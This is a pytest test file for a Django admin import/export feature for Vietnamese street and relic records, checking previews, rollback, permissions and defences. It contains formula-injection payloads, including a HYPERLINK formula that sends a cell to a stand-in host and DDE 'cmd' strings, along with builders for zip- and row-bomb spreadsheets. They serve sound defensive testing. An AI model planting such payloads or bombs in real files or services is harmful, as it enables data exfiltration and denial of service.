"""Spreadsheet import and export: preview first, all or nothing, stable external IDs, errors
per row and column in the editor's language, editors' units respected, plates untouched."""

import csv
import io
import time
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from qrplates.services import plate_mint
from sites.models import Person, Relic, Status, Street, TextState
from workflow import imports

pytestmark = pytest.mark.django_db

HEADER = ["external_id", "name_vi", "name_en", "summary_vi", "lat", "lon", "unit", "street_type"]
ROWS = [
    [
        "ts:001",
        "Phố Nhập Một",
        "Import One St",
        "Tóm tắt một.",
        "21.851727",
        "106.752232",
        "05986",
        "Phố",
    ],
    ["ts:002", "Đường Nhập Hai", "", "Tóm tắt hai.", "", "", "Phường Tam Thanh", "duong"],
]


def csv_file(rows=ROWS, header=HEADER, name="streets.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode("utf-8-sig"), content_type="text/csv")


def xlsx_file(rows=ROWS, header=HEADER) -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("streets.xlsx", buffer.getvalue())


def import_url(model="street") -> str:
    return reverse(f"admin:sites_{model}_import")


def preview_and_confirm(client, upload, model="street"):
    preview = client.post(import_url(model), {"file": upload})
    token = preview.context.get("pending")
    assert token, preview.content.decode()[:3000]
    return preview, client.post(import_url(model), {"pending": token}, follow=True)


@pytest.mark.parametrize("make_file", [csv_file, xlsx_file], ids=["csv", "xlsx"])
def test_a_preview_saves_nothing_and_the_confirmation_saves_everything(reviewer_client, make_file):
    preview = reviewer_client.post(import_url(), {"file": make_file()})
    assert preview.status_code == 200
    assert not Street.objects.exists()
    assert [row.action for row in preview.context["report"].rows] == ["new", "new"]
    token = preview.context["pending"]
    done = reviewer_client.post(import_url(), {"pending": token}, follow=True)
    assert "2 mới" in done.content.decode() or done.status_code == 200
    one = Street.objects.get(external_id="ts:001")
    assert one.name_en == "Import One St" and one.street_type == "pho"
    assert one.unit.code == "05986" and one.lat == 21.851727
    assert one.status == Status.DRAFT
    assert one.history.first().history_user.username == "duyet"
    assert Street.objects.get(external_id="ts:002").unit.code == "05986"


def test_importing_the_same_file_again_changes_nothing(reviewer_client):
    preview_and_confirm(reviewer_client, csv_file())
    before = list(Street.objects.order_by("pk").values_list("pk", "updated_at"))
    history = Street.history.count()
    preview = reviewer_client.post(import_url(), {"file": csv_file()})
    assert [row.action for row in preview.context["report"].rows] == ["skip", "skip"]
    reviewer_client.post(import_url(), {"pending": preview.context["pending"]})
    assert list(Street.objects.order_by("pk").values_list("pk", "updated_at")) == before
    assert Street.history.count() == history


def test_an_edited_file_updates_the_same_record_in_place(reviewer_client):
    preview_and_confirm(reviewer_client, csv_file())
    pk = Street.objects.get(external_id="ts:001").pk
    edited = [list(ROWS[0]), list(ROWS[1])]
    edited[0][3] = "Tóm tắt đã sửa."
    preview, _done = preview_and_confirm(reviewer_client, csv_file(edited))
    assert [row.action for row in preview.context["report"].rows] == ["update", "skip"]
    street = Street.objects.get(external_id="ts:001")
    assert street.pk == pk and street.summary_vi == "Tóm tắt đã sửa."
    assert Street.objects.count() == 2


def test_one_bad_row_means_nothing_is_saved_and_each_error_names_its_cell(reviewer_client):
    bad = [
        ROWS[0],
        ["ts:003", "Phố Ba", "", "", "abc", "106.75", "05986", "pho"],
        ["", "Phố Không Mã", "", "", "", "", "05986", "pho"],
        ["ts:004", "Phố Bốn", "", "", "", "", "Xã Không Có", "đại lộ lớn"],
    ]
    preview = reviewer_client.post(import_url(), {"file": csv_file(bad)})
    report = preview.context["report"]
    assert not report.ok and "pending" not in preview.context
    errors = {(r.number, e.column) for r in report.rows for e in r.errors}
    assert (3, "lat") in errors and (4, "external_id") in errors
    assert (5, "unit") in errors and (5, "street_type") in errors
    page = preview.content.decode()
    assert "không phải là tọa độ" in page and "Không có xã, phường" in page
    assert "Không có gì được nhập" in page
    assert not Street.objects.exists()


def test_the_whole_import_is_rolled_back_if_a_row_fails_on_saving(reviewer):
    dataset = imports.read_dataset(csv_file().read(), "streets.csv")
    dataset.append(["ts:001", "Phố Trùng Mã", "", "", "", "", "05986", "pho"])
    report = imports.records_import(model=Street, dataset=dataset, user=reviewer, dry_run=False)
    assert not report.ok and not report.saved
    assert not Street.objects.exists()


def test_an_editor_imports_into_their_own_units_only(editor_client, ky_lua):
    rows = [ROWS[0], ["ts:009", "Phố Phường Khác", "", "", "", "", ky_lua.code, "pho"]]
    preview = editor_client.post(import_url(), {"file": csv_file(rows)})
    report = preview.context["report"]
    assert [e.column for e in report.rows[1].errors] == ["unit"]
    assert "xã, phường của mình" in preview.content.decode()
    assert not Street.objects.exists()


def test_an_editors_import_cannot_publish_and_sends_published_records_to_review(
    editor_client, own_street
):
    own_street.external_id = "ts:001"
    own_street.save()
    preview_and_confirm(editor_client, csv_file([ROWS[0]]))
    own_street.refresh_from_db()
    assert own_street.name_en == "Import One St"
    assert own_street.status == Status.REVIEW
    assert own_street.text_state("en") == TextState.DRAFT


def test_plate_codes_are_never_touched(reviewer_client, own_street):
    own_street.external_id = "ts:001"
    own_street.save()
    plate = plate_mint(target=own_street)
    header = [*HEADER, "plate_code", "code"]
    rows = [[*ROWS[0], "ZZZZZZZ", "ZZZZZZZ"]]
    preview, _done = preview_and_confirm(reviewer_client, csv_file(rows, header))
    assert preview.context["report"].ignored_columns == ["plate_code", "code"]
    plate.refresh_from_db()
    assert own_street.plates.get().code == plate.code != "ZZZZZZZ"


def test_the_export_has_the_import_columns_and_imports_back_unchanged(reviewer_client, demo):
    exported = reviewer_client.get(reverse("admin:sites_relic_export", args=["csv"]))
    assert exported.status_code == 200
    text = exported.content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert header == list(imports.RelicResource().fields)
    assert "Đền Kỳ Cùng" in text or "Đền" in text
    upload = SimpleUploadedFile("relics.csv", exported.content)
    preview = reviewer_client.post(import_url("relic"), {"file": upload})
    report = preview.context["report"]
    assert report.ok, [(r.number, r.errors) for r in report.error_rows]
    assert {row.action for row in report.rows} == {"skip"}
    xlsx = reviewer_client.get(reverse("admin:sites_relic_export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.title == "Di tích"  # the name the import knows it by, from any list
    assert [c.value for c in sheet[1]] == header
    assert sheet.max_row == Relic.objects.count() + 1


HOSTILE_NAMES = [
    '=HYPERLINK("http://lua-dao.example/?d="&B2,"Xem ảnh")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-Tổ dân phố 5",  # a real name may start with a dash: it must come back as it was
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "'Ngõ' Chùa",
    "-257",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_that_look_like_formulas_are_exported_as_text_and_import_back_exactly(
    reviewer_client, tam_thanh, fmt
):
    for number, name in enumerate(HOSTILE_NAMES):
        Street.objects.create(external_id=f"f:{number}", name_vi=name, name_en=name, unit=tam_thanh)
    exported = reviewer_client.get(reverse("admin:sites_street_export", args=[fmt]))
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        cells = [row[column] for row in rows for column in ("name_vi", "name_en")]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
        header = [cell.value for cell in sheet[1]]
        columns = [header.index("name_vi") + 1, header.index("name_en") + 1]
        found = [
            sheet.cell(row, column) for row in range(2, sheet.max_row + 1) for column in columns
        ]
        assert {cell.data_type for cell in found} == {"s"}  # text, never a formula ("f")
        cells = [cell.value for cell in found]
    assert len(cells) == 2 * len(HOSTILE_NAMES)
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-T")]

    # Exported and imported back: nothing changed.
    upload = SimpleUploadedFile(f"streets.{fmt}", exported.content)
    report = reviewer_client.post(import_url(), {"file": upload}).context["report"]
    assert report.ok and {row.action for row in report.rows} == {"skip"}
    # And into an empty database: the very same names.
    Street.objects.all().delete()
    preview_and_confirm(reviewer_client, SimpleUploadedFile(f"streets.{fmt}", exported.content))
    assert sorted(Street.objects.values_list("name_vi", flat=True)) == sorted(HOSTILE_NAMES)
    assert sorted(Street.objects.values_list("name_en", flat=True)) == sorted(HOSTILE_NAMES)


def test_the_sample_file_is_a_valid_import(reviewer_client):
    for model in ("street", "relic", "scenicspot", "person"):
        for fmt in ("csv", "xlsx"):
            sample = reviewer_client.get(
                reverse(f"admin:sites_{model}_import_template", args=[fmt])
            )
            assert sample.status_code == 200
            assert sample["Content-Disposition"].endswith(f'.{fmt}"')
            # As downloaded, with no example row to delete: it imports and changes nothing.
            upload = SimpleUploadedFile(f"mau.{fmt}", sample.content)
            preview, _done = preview_and_confirm(reviewer_client, upload, model)
            assert preview.context["report"].ok and not preview.context["report"].rows
    assert not Person.objects.exists() and not Street.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("x.txt", b"a,b", "Hãy tải lên tệp .csv hoặc .xlsx."),
        ("x.xlsx", b"not a workbook", "Không đọc được tệp"),
        ("x.csv", "external_id,name_vi\nts:1,Phố Đông\n".encode("utf-16"), "UTF-8"),
        ("x.csv", b"", "Tệp trống"),
        ("x.csv", b"name_vi\nPho\n", "external_id"),
    ],
)
def test_an_unreadable_file_gets_a_clear_message(reviewer_client, name, content, message):
    response = reviewer_client.post(import_url(), {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Street.objects.exists()


# --- files that cost more to read than they look ----------------------------------------------

SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def workbook(rows: int = 0, dimension: str | None = None, strings: int = 1, text: str = "a"):
    """A small .xlsx written by hand: `rows` rows of one shared-string cell after a header row,
    the sheet's `dimension` as declared (or none), `strings` shared strings of `text`."""
    main = f"{RELATIONSHIPS}/officeDocument"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
            f'Type="{main}" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{SPREADSHEET_NS}" xmlns:r="{RELATIONSHIPS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE_RELS}">'
            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/worksheet" '
            'Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{RELATIONSHIPS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/sharedStrings.xml": (
            f'<sst xmlns="{SPREADSHEET_NS}">' + f"<si><t>{text}</t></si>" * strings + "</sst>"
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{SPREADSHEET_NS}">'
            + (f'<dimension ref="{dimension}"/>' if dimension else "")
            + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>external_id</t></is></c>'
            + '<c r="B1" t="inlineStr"><is><t>name_vi</t></is></c></row>'
            + "".join(
                f'<row r="{n}"><c r="B{n}" t="s"><v>0</v></c></row>' for n in range(2, rows + 2)
            )
            + "</sheetData></worksheet>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, xml in parts.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + xml)
    return buffer.getvalue()


def refused_quickly(client, name: str, content: bytes, language: str = "vi") -> str:
    """The import page's answer to `content`, which must come within a second of CPU time."""
    if language == "en":
        client.cookies["lang"] = "en"
    started = time.process_time()
    response = client.post(import_url(), {"file": SimpleUploadedFile(name, content)})
    spent = time.process_time() - started
    assert response.status_code == 200 and "pending" not in response.context
    assert spent < 1.0, f"{spent:.1f} s of CPU to refuse it"
    assert not Street.objects.exists()
    return response.context["file_error"]


BOMBS = {
    # Two hundred thousand rows in 1 MB, declared in the sheet's dimension.
    "declared": lambda: workbook(200_000, "A1:B200001"),
    # The same rows under a dimension that lies, or none at all (openpyxl then reads the whole
    # sheet to find none: that costs what the sheet's tags cost, at most MAX_XML_TAGS).
    "lying": lambda: workbook(200_000, "A1:B2"),
    "undeclared": lambda: workbook(20_000),
}


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("vi", "Trang tính có hơn 5000 dòng dưới dòng tiêu đề"),
        ("en", "The sheet has more than 5000 rows below its header"),
    ],
)
def test_a_sheet_of_too_many_rows_is_refused_before_it_is_read(
    reviewer_client, bomb, language, message
):
    """287 KB holding 2 million rows cost 72 s of CPU and 663 MiB before the row limit refused
    it (issue 13)."""
    assert message in refused_quickly(reviewer_client, "bomb.xlsx", BOMBS[bomb](), language)


def test_a_workbook_of_a_million_tiny_strings_is_refused_before_it_is_read(reviewer_client):
    bomb = workbook(1, "A1:B2", strings=1_000_000)
    assert len(bomb) < 50_000  # 17 MB of XML, 4 million tags
    message = refused_quickly(reviewer_client, "strings.xlsx", bomb)
    assert "Tệp bảng tính có nhiều ô hơn mức cho phép (5000 dòng, 50 cột)" in message


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(reviewer_client):
    bomb = workbook(1, "A1:B2", text="a" * (60 << 20))
    assert len(bomb) < 100_000
    message = refused_quickly(reviewer_client, "huge.xlsx", bomb)
    assert "Tệp bảng tính giải nén ra 60 MB; giới hạn là 50 MB" in message


def test_a_csv_of_millions_of_short_lines_is_refused_as_it_is_read(reviewer_client):
    lines = b"external_id,name_vi\n" + b"a\n" * ((imports.MAX_FILE_BYTES - 20) // 2)
    message = refused_quickly(reviewer_client, "lines.csv", lines)
    assert "Tệp có hơn 5000 dòng" in message


def test_a_full_sheet_is_still_read(reviewer):
    """The limits leave room for a whole file: MAX_ROWS rows in every column of the import."""
    columns = list(imports.RelicResource().fields)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(columns)
    for number in range(imports.MAX_ROWS):
        sheet.append([f"r:{number}", *(f"Văn bản {number} của cột {c}" for c in columns[1:])])
    buffer = io.BytesIO()
    book.save(buffer)
    dataset = imports.read_dataset(buffer.getvalue(), "relics.xlsx")
    assert len(dataset) == imports.MAX_ROWS and dataset.headers == columns
    assert dataset[-1][0] == f"r:{imports.MAX_ROWS - 1}"


def test_a_column_name_past_the_limit_is_not_dropped_silently(reviewer_client):
    header = [f"extra_{n}" for n in range(imports.MAX_COLUMNS)] + ["name_en"]
    message = refused_quickly(reviewer_client, "wide.xlsx", xlsx_file([], header).read())
    assert "Trang tính có hơn 50 cột" in message


def test_a_forged_or_foreign_confirmation_is_refused(reviewer_client, editor_client):
    preview = reviewer_client.post(import_url(), {"file": csv_file()})
    token = preview.context["pending"]
    refused = editor_client.post(import_url(), {"pending": token})
    assert "hết hạn" in refused.content.decode()
    forged = reviewer_client.post(import_url(), {"pending": token + "x"})
    assert "hết hạn" in forged.content.decode()
    assert not Street.objects.exists()


def test_the_list_offers_import_export_and_filters_apply(reviewer_client, demo):
    page = reviewer_client.get(reverse("admin:sites_street_changelist")).content.decode()
    assert import_url() in page and reverse("admin:sites_street_export", args=["xlsx"]) in page
    url = reverse("admin:sites_street_export", args=["csv"])

    def rows(response) -> list:
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]

    everything = rows(reviewer_client.get(url))
    searched = rows(reviewer_client.get(url, {"q": "mai the chuan"}))
    assert [row[1] for row in searched] == ["Phố Mai Thế Chuẩn"]
    assert len(everything) == Street.objects.count() > 1
